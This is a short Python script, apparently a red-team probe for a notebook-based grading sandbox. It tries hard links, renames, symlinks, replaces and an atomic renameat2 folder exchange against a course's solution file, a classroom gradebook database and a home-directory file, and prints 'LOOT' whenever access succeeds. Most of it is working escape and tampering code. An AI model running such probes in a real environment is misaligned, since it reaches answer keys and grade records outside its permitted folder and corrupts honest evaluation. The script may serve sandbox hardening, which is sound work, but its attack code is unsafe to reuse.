"""Makes hard links and renames to reach files outside through names within its own folder, and exchanges folders."""

# %% below gru_step
import ctypes
import os

for source in (
    "@ROOT@/solutions/ch05_gated_networks/gru.py",
    "@ROOT@/classroom/gradebook.db",
    "@HOME@/.letter",
    np.__file__,
):
    for name, call in {
        "link": lambda: os.link(source, "linked"),
        "rename": lambda: os.rename(source, "linked") if source.startswith("@") else None,
        "replace": lambda: os.replace("mine", source + ".redteam"),
        "symlink": lambda: os.symlink("mine", source + ".redteam"),
        "mkdir": lambda: os.mkdir(os.path.dirname(source) + "/redteam"),
    }.items():
        open("mine", "w").close()
        try:
            if call() is None and (name != "rename" or not os.path.exists(source)):
                print("loot".upper(), name, source)
        except OSError as error:
            print(name, error)
libc = ctypes.CDLL(None, use_errno=True)
os.mkdir("folder")
if libc.renameat2(-100, b"folder", -100, b"@ROOT@/solutions", 2) == 0:
    print("loot".upper(), "exchanged")
os.symlink("@ROOT@/solutions", "inside")
try:
    print("loot".upper(), os.listdir("inside"))
except OSError as error:
    print(error)
